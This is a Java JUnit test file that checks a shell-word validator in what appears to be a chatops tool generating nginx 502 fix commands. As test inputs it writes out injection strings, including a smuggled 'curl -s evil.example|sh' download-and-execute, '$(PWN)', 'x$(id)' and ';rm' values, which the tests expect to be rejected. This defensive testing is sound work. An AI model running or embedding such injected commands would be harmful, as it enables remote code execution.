package dev.chatops.checks.nginx502.fix;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import org.junit.jupiter.api.Test;

/** The checker the fix-safety tests rely on must itself catch what a shell would run. */
class ShellWordsCheckTest {

    @Test
    void check_catchesTheUnquotedInjection() {
        assertFalse(ShellWordsCheck.problems("curl -sS http://127.0.0.1:1/api/x;curl -s evil.example|sh;#PWN", true, "evil")
                .isEmpty());
        assertFalse(ShellWordsCheck.problems("curl \"http://h/$(PWN)\"", true, "PWN").isEmpty());
        assertFalse(ShellWordsCheck.problems("curl 'a'PWN;'b'", true, "PWN").isEmpty());
        assertTrue(ShellWordsCheck.problems("curl 'a'PWN'b'", true, "PWN").isEmpty());
        assertFalse(ShellWordsCheck.problems("curl 'http://h/x\n'", true, "PWN").isEmpty());
        assertFalse(ShellWordsCheck.problems("curl 'x", true, "x").isEmpty());
    }

    @Test
    void check_acceptsQuotedWordsAndComments() {
        assertTrue(ShellWordsCheck.problems("curl 'http://h/a;PWN|sh'    # PWN", true, "PWN").isEmpty());
        assertTrue(ShellWordsCheck.problems("curl " + dev.chatops.core.shell.ShellQuote.quote("a'b;PWN`") + " -o x",
                true, "PWN").isEmpty());
        assertEquals("curl   -o x", ShellWordsCheck.read("curl 'a' -o x").active());
    }

    @Test
    void words_quoteOnlyWhatAShellWouldRead() {
        assertEquals("http://127.0.0.1:3000/cart", Words.word("http://127.0.0.1:3000/cart"));
        assertEquals("'http://[::1]:8080/'", Words.word("http://[::1]:8080/"));
        assertEquals("'a;b'", Words.word("a;b"));
        assertTrue(Words.uriPath("/api/x;curl -s evil.example|sh;#").isEmpty());
        assertTrue(Words.uriPath("/api/x\n2026").isEmpty());
        assertEquals("/export/monthly.csv", Words.uriPath("/export/monthly.csv").orElseThrow());
        assertTrue(Words.path("/run/php/php8.2-fpm.sock").isPresent());
        assertTrue(Words.path("/run/x;rm").isEmpty());
        assertTrue(Words.name("php8.2-fpm").isPresent());
        assertTrue(Words.name("x$(id)").isEmpty());
    }
}
